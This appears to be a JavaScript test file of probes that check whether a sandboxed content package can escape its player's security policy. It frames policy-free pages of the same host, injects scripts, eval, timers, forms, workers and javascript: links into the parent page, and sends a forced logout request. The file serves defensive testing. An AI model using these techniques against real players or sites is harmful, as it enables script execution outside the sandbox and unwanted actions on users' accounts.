// Pages that do not carry the package's own policy: whoever may script one of them is free of it. All are of this host.

const free = async (view, name) => {
  // The functions of that page's window, and with them that page's policy.
  await view.fetch(mark(name), { mode: "no-cors", method: "POST" }).catch(() => {});
  new view.Image().src = mark(name);
  await view.fetch(mark(name, hostile.context.app, "/accounts/logout/"), { mode: "no-cors", method: "POST" }).catch(() => {});
};
const own = (file) => new URL(file, location.href).pathname;
const shell = () => parent.document.body;

const PAGES = {
  "a missing address": () => "/nothing/here",
  "a missing file": () => own("missing.html"),
  "a file of the player": () => parent.document.querySelector("link[rel=stylesheet]").href,
  "a picture of the player": () => parent.document.querySelector("link[rel=icon]").href,
  "a script of the player": () => parent.document.querySelector("script[src]").src,
  "an unknown file of the player": () => "/p/static/x/css/none.css",
  "a message address": () => "/s/commit",
  "the player page": () => "/p/",
  "robots": () => "/robots.txt",
  "an address too odd": () => "/%ff%fe",
  "text": () => own("notes.txt"),
  "data": () => own("data.json"),
  "the manifest": () => own("imsmanifest.xml"),
  "a blank page": () => "about:blank",
};
for (const [page, address] of Object.entries(PAGES)) {
  probe("frames", `framed: ${page}`, "script a page of this host that has no policy", async (name) => {
    const frame = await framed({ src: address() });
    await free(frame.contentWindow, name);
  });
  probe("frames", `framed by the player: ${page}`, "the same, outside the sandbox", async (name) => {
    const frame = await framed({ src: address(), hidden: "" }, shell());
    await free(frame.contentWindow, name);
  });
  probe("frames", `in a window: ${page}`, "the same, in a window of its own", async (name) => {
    const opened = open(address(), `w${Math.random()}`);
    await pause(1200);
    try {
      await free(opened, name);
    } finally {
      opened?.close();
    }
  });
}
for (const [kind, address] of Object.entries({
  blob: () => URL.createObjectURL(new Blob(["<p>x"], { type: "text/html" })),
  data: () => "data:text/html,<p>x",
  script: () => "javascript:'<p>x'",
})) {
  probe("frames", `framed, made here: ${kind}`, "script a page made here", async (name) => {
    const frame = await framed({ src: address() });
    await free(frame.contentWindow, name);
  });
}
probe("frames", "script in a made page", "run a script in a page made here", async (name) => {
  await framed({ srcdoc: `<script>fetch(${JSON.stringify(mark(name))}, {mode: "no-cors"})</script>` });
});

// The player's own page: same origin, so its elements can be touched; its powers must not be.
probe("frames", "script file into the player", "run the package's script in the player's page", async () => {
  add("script", { src: new URL("evil.js", location.href).href }, shell());
  await pause(600);
  return parent.evilRan && "ran outside the sandbox";
});
probe("frames", "module into the player", "import the package's script there", async () => {
  const script = add("script", { type: "module", src: new URL("evil.js", location.href).href }, shell());
  await pause(600);
  return parent.evilRan && script && "ran outside the sandbox";
});
probe("frames", "script text into the player", "run a line in the player's page", async () => {
  add("script", {}, shell()).textContent = "window.evilLine = true";
  add("img", { src: "x:", onerror: "window.evilLine = true" }, shell());
  await pause(300);
  return parent.evilLine && "ran outside the sandbox";
});
probe("frames", "eval in the player", "make a function of the player's window", () => parent.eval("'evaluated'"));
probe("frames", "text timer in the player", "have the player run a line later", async () => {
  parent.setTimeout("window.evilTimer = true", 0);
  await pause(200);
  return parent.evilTimer && "ran outside the sandbox";
});
probe("frames", "the player's fetch", "use the player's own functions", (name) => free(parent, name));
probe("frames", "a picture in the player", "put a foreign picture there", (name) => void add("img", { src: mark(name) }, shell()));
probe("frames", "a frame in the player", "put a foreign frame there", (name) => void add("iframe", { src: mark(name) }, shell()));
probe("frames", "a form in the player", "send a form from there", (name) => {
  const form = add("form", { action: mark(name), method: "post" }, shell());
  form.submit();
});
probe("frames", "a style in the player", "load a foreign style sheet there", (name) => void add("link", { rel: "stylesheet", href: mark(name) }, shell()));
probe("frames", "a frame without a sandbox", "frame the own page anew, freely", async () => {
  const frame = await framed({ src: own("page.html"), hidden: "" }, shell());
  try {
    frame.contentDocument.domain = frame.contentDocument.domain;
  } catch {
    return "";
  }
  return frame.contentDocument.URL.includes("page.html") && "a page of the package runs without a sandbox";
});
probe("frames", "a script address in the player", "follow a script's address there", async () => {
  add("a", { href: "javascript:void (window.evilLink = true)" }, shell()).click();
  await pause(300);
  return parent.evilLink && "ran outside the sandbox";
});
probe("frames", "a page made by the player", "have the player's window make a page, and frame it there", async (name) => {
  const source = `<script>fetch(${JSON.stringify(mark(name))}, {mode: "no-cors"})</script>`;
  const made = parent.URL.createObjectURL(new parent.Blob([source], { type: "text/html" }));
  const frame = await framed({ src: made, hidden: "" }, shell());
  await free(frame.contentWindow, name);
});
probe("frames", "a worker of the player", "have the player's window start a worker", (name) => {
  const source = `fetch(${JSON.stringify(mark(name))}, {mode: "no-cors"})`;
  new parent.Worker(parent.URL.createObjectURL(new parent.Blob([source])));
});
